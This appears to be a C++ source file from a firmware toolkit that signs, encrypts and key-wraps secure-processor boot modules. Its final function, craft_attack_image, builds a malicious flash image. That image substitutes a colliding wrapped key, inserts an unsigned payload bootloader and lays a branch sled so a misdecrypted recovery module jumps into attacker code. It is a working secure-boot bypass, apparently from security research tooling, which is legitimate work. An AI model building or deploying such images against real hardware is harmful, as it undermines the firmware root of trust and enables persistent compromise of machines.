// Copyright aspforge contributors.
// Licensed under the Apache License, Version 2.0, see LICENSE for details.
// SPDX-License-Identifier: Apache-2.0

#include "aspforge/firmware/build.hpp"

#include <cstring>
#include <stdexcept>

#include "aspforge/boot/branch.hpp"
#include "aspforge/crypto/hmac.hpp"
#include "aspforge/crypto/sha256.hpp"

namespace aspforge::fw {

Bytes make_payload_descriptor(uint32_t payload_id, BytesView payload_body) {
  Bytes out;
  out.insert(out.end(), kPayloadMagic, kPayloadMagic + 8);
  append_u32le(out, payload_id);
  append_u32le(out, kStubMarker);
  append(out, payload_body);
  while (out.size() % 4 != 0) out.push_back(0);
  return out;
}

Bytes module_signed_bytes(const FirmwareModule& m, AuthScheme scheme,
                          std::optional<BytesView> plaintext_body) {
  Bytes out = m.header_bytes(/*zero_signature=*/true);
  BytesView form;
  if (scheme == AuthScheme::Zen1 && m.encrypted()) {
    if (!plaintext_body)
      throw std::invalid_argument("zen1 signing input needs the decrypted body");
    form = *plaintext_body;
  } else {
    form = as_view(m.body);
  }
  size_t covered = m.signed_size < form.size() ? m.signed_size : form.size();
  append(out, form.subspan(0, covered));
  return out;
}

FirmwareModule sign_module(FirmwareModule m, const crypto::RsaKeyPair& signer,
                           AuthScheme scheme, std::optional<BytesView> plaintext_body) {
  if (scheme == AuthScheme::Zen45) {
    BytesView plain = plaintext_body ? *plaintext_body : as_view(m.body);
    if (m.encrypted() && !plaintext_body)
      throw std::invalid_argument("zen4/5 signing needs the plaintext body hash input");
    m.body_sha256 = crypto::sha256(plain);
  }
  m.pubkey_modulus = signer.n;
  m.pubkey_exponent = signer.e;
  Bytes msg = module_signed_bytes(m, scheme, plaintext_body);
  m.signature = crypto::rsa_pss_sha384_sign(signer, as_view(msg));
  return m;
}

bool verify_module_signature(const FirmwareModule& m, const crypto::RsaKeyPair& pub,
                             AuthScheme scheme,
                             std::optional<BytesView> plaintext_body) {
  if (m.signature.size() != kSignatureBytes) return false;
  Bytes msg;
  try {
    msg = module_signed_bytes(m, scheme, plaintext_body);
  } catch (const std::invalid_argument&) {
    return false;
  }
  return crypto::rsa_pss_sha384_verify(pub, as_view(msg), as_view(m.signature));
}

FirmwareModule encrypt_module(FirmwareModule m, const crypto::Key128& mek,
                              const crypto::Block16& iv, const crypto::Key128& ikek) {
  if (m.body.size() % 16 != 0)
    throw std::invalid_argument("plaintext body must be block-aligned");
  m.body = crypto::aes128_cbc_encrypt(mek, iv, as_view(m.body));
  m.iv = iv;
  crypto::Block16 mek_block;
  std::memcpy(mek_block.data(), mek.data(), 16);
  m.wrapped_mek = crypto::aes128_encrypt_block(ikek, mek_block);
  m.flags |= kFlagEncrypted;
  m.image_size = static_cast<uint32_t>(m.body.size());
  return m;
}

IkekEntry make_ikek_entry(const crypto::Key128& ikek_plain,
                          const crypto::Key128& bootrom_key, AuthScheme scheme) {
  IkekEntry e;
  crypto::Block16 plain;
  std::memcpy(plain.data(), ikek_plain.data(), 16);
  e.wrapped_ikek = crypto::aes128_encrypt_block(bootrom_key, plain);
  if (scheme != AuthScheme::Zen1)
    e.hmac_tag = crypto::hmac_sha256(as_view(bootrom_key), as_view(e.wrapped_ikek));
  return e;
}

bool verify_ikek_entry(const IkekEntry& entry, const crypto::Key128& bootrom_key,
                       AuthScheme scheme) {
  if (scheme == AuthScheme::Zen1) return true;  // no tag in the Zen1 scheme
  auto expect = crypto::hmac_sha256(as_view(bootrom_key), as_view(entry.wrapped_ikek));
  return ct_equal(as_view(expect), as_view(entry.hmac_tag));
}

crypto::Key128 unwrap_ikek(const IkekEntry& entry, const crypto::Key128& bootrom_key) {
  auto plain = crypto::aes128_decrypt_block(bootrom_key, entry.wrapped_ikek);
  crypto::Key128 out;
  std::memcpy(out.data(), plain.data(), 16);
  return out;
}

crypto::Block16 first_plain_block(const crypto::Key128& ikek,
                                  const crypto::Block16& wrapped_mek,
                                  const crypto::Block16& iv,
                                  const crypto::Block16& first_cipher_block) {
  auto mek_block = crypto::aes128_decrypt_block(ikek, wrapped_mek);
  crypto::Key128 mek;
  std::memcpy(mek.data(), mek_block.data(), 16);
  auto p = crypto::aes128_decrypt_block(mek, first_cipher_block);
  for (int i = 0; i < 16; ++i) p[i] ^= iv[i];
  return p;
}

FlashImage craft_attack_image(const crypto::Key128& collision_ikek,
                              const FirmwareModule& legacy_recovery,
                              BytesView payload_body,
                              const crypto::Key128& bootrom_key, uint32_t payload_id,
                              size_t sram_size) {
  if (!legacy_recovery.encrypted() || legacy_recovery.body.size() < 16)
    throw std::invalid_argument("attack image needs an encrypted recovery module");

  Bytes body = make_payload_descriptor(payload_id, payload_body);

  // Where will the misdecrypted first word of the recovery land? With a
  // full 32-bit collision this is exactly the descriptor base; a partial
  // collision leaves low offset bits uncontrolled, so pave every reachable
  // word with a branch back to the descriptor (the relocation-stub role).
  crypto::Block16 c0{};
  std::memcpy(c0.data(), legacy_recovery.body.data(), 16);
  auto plain = first_plain_block(collision_ikek, legacy_recovery.wrapped_mek,
                                 legacy_recovery.iv, c0);
  uint32_t word0 = read_u32le(plain.data());
  auto landing = boot::decode_branch(word0, legacy_recovery.load_addr);

  if (landing && *landing >= kAttackLoadAddr + body.size() &&
      static_cast<size_t>(*landing) + 4 <= sram_size) {
    size_t sled_end = *landing + 4 - kAttackLoadAddr;
    while (body.size() < sled_end) {
      uint32_t addr = kAttackLoadAddr + static_cast<uint32_t>(body.size());
      auto tramp = boot::encode_branch(addr, kAttackLoadAddr);
      append_u32le(body, tramp ? *tramp : 0);
    }
  }

  FirmwareModule primary;
  primary.svn = 0;
  primary.flags = 0;
  primary.load_addr = kAttackLoadAddr;
  primary.image_size = static_cast<uint32_t>(body.size());
  primary.signed_size = primary.image_size;
  primary.signature.assign(kSignatureBytes, 0);
  primary.pubkey_modulus.assign(512, 0);
  primary.body = std::move(body);

  IkekEntry swapped =
      make_ikek_entry(collision_ikek, bootrom_key, AuthScheme::Zen3Milan);

  FlashImageBuilder builder;
  builder.add(EntryType::PrimaryBl, as_view(primary.to_bytes()));
  Bytes recovery_bytes = legacy_recovery.to_bytes();
  builder.add(EntryType::RecoveryBl, as_view(recovery_bytes));
  builder.add(EntryType::WrappedIkek, as_view(swapped.to_bytes()));
  return builder.build();
}

}  // namespace aspforge::fw
